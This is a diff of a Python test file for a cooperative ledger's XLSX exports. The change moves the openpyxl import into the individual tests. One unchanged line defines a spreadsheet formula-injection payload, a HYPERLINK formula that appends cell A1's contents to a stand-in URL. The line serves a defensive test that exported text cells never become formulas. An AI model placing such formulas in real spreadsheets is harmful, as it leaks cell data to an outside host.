@@ -3,7 +3,6 @@
 from datetime import date
 from io import BytesIO
 
-import openpyxl
 import pytest
 
 from kopdes.ledger import exports, services, statements
@@ -70,6 +69,8 @@ def test_tables_have_indonesian_titles_and_hold_their_checks(books):
 
 
 def test_xlsx_holds_ints_with_thousands_format(books):
+    import openpyxl
+
     table = all_tables(books)[0]
     data = exports.xlsx_bytes(
         table, heading=["Koperasi A", "Desa Cangkudu", table.title, table.period]
@@ -88,6 +89,8 @@ INJECTION = '=HYPERLINK("http://x"&A1,"Klik")'
 
 
 def test_text_cells_are_never_formulas(books):
+    import openpyxl
+
     services.post_event(
         cooperative=books,
         event="expense.cash",
@@ -113,6 +116,8 @@ def test_text_cells_are_never_formulas(books):
 
 def test_cash_flow_and_notes_columns_follow_a_period_cut_short(books):
     """January to October is headed so, never "Tahun 2026" (issue 10.8)."""
+    import openpyxl
+
     period = ReportPeriod.whole_year(2026, date(2026, 10, 31))
     flow = exports.cash_flow_table(statements.cash_flow(cooperative=books, period=period))
     assert flow.columns == ("Uraian", "Januari s.d. Oktober 2026", "Januari s.d. Oktober 2025")
